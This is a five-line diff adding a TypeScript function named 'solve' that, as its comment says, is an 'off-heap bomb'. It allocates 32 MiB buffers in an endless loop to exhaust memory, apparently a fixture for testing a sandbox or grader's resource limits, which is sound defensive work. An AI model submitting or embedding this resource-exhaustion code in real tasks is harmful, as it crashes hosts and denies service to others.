@@ -1,0 +1,5 @@
+// TypeScript flavour of the off-heap bomb.
+function solve(a: number, b: number): number {
+  const hoard: Uint8Array[] = [];
+  for (;;) hoard.push(new Uint8Array(32 * 1024 * 1024).fill(7));
+}
